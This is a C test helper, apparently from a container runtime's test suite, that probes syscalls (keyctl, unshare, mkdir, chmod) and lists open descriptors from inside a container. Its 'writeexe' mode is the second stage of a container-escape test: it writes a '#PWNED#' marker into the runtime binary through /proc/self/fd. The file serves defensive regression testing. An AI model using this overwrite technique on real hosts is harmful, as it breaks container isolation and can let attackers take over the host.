/* probe — a static helper the runtime tests copy into containers: makes
 * one syscall and prints "ok" or the errno, or lists open fds.
 *   probe keyctl | unshare | mkdir PATH | chmod PATH MODE(octal) | fds
 *   probe writeexe FD   (the second stage of evil_interp.c) */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static int report(long r) {
  if (r < 0) {
    printf("errno %d %s\n", errno, strerror(errno));
    return 1;
  }
  puts("ok");
  return 0;
}

int main(int argc, char **argv) {
  if (argc < 2)
    return 2;
  if (strcmp(argv[1], "keyctl") == 0) /* KEYCTL_GET_KEYRING_ID of the session keyring */
    return report(syscall(SYS_keyctl, 0, -3, 0));
  if (strcmp(argv[1], "unshare") == 0)
    return report(syscall(SYS_unshare, CLONE_NEWUSER));
  if (strcmp(argv[1], "mkdir") == 0 && argc > 2)
    return report(mkdir(argv[2], 0755));
  if (strcmp(argv[1], "chmod") == 0 && argc > 3)
    return report(chmod(argv[2], (mode_t)strtol(argv[3], NULL, 8)));
  if (strcmp(argv[1], "writeexe") == 0 && argc > 2) {
    /* stage two of evil_interp: write to the runtime binary through the fd
     * once nothing executes it any more (ETXTBSY until then) */
    char path[64];
    snprintf(path, sizeof(path), "/proc/self/fd/%s", argv[2]);
    FILE *out = fopen("/tmp/attack", "a");
    for (int i = 0; i < 100; i++) {
      int fd = open(path, O_WRONLY | O_APPEND);
      if (fd < 0 && errno == ETXTBSY) {
        usleep(50000);
        continue;
      }
      if (fd < 0)
        fprintf(out, "open: %s\n", strerror(errno));
      else if (write(fd, "#PWNED#", 7) != 7)
        fprintf(out, "write: %s\n", strerror(errno));
      else
        fprintf(out, "written\n");
      return 0;
    }
    fprintf(out, "busy\n");
    return 0;
  }
  if (strcmp(argv[1], "fds") == 0) {
    DIR *d = opendir("/proc/self/fd");
    struct dirent *de;
    while (d != NULL && (de = readdir(d)) != NULL)
      if (de->d_name[0] != '.' && atoi(de->d_name) != dirfd(d))
        printf("%s\n", de->d_name);
    return 0;
  }
  return 2;
}
